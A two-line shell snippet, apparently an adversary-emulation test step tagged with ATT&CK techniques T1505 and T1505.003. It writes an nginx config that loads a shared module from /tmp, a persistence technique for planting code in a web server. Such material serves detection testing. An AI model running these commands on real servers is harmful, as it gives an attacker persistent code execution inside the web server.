# title: A module for a web server
# technique: T1505 T1505.003

mkdir -p /etc/nginx/modules-enabled
echo 'load_module /tmp/ngx_http_x.so;' >/etc/nginx/modules-enabled/90-x.conf
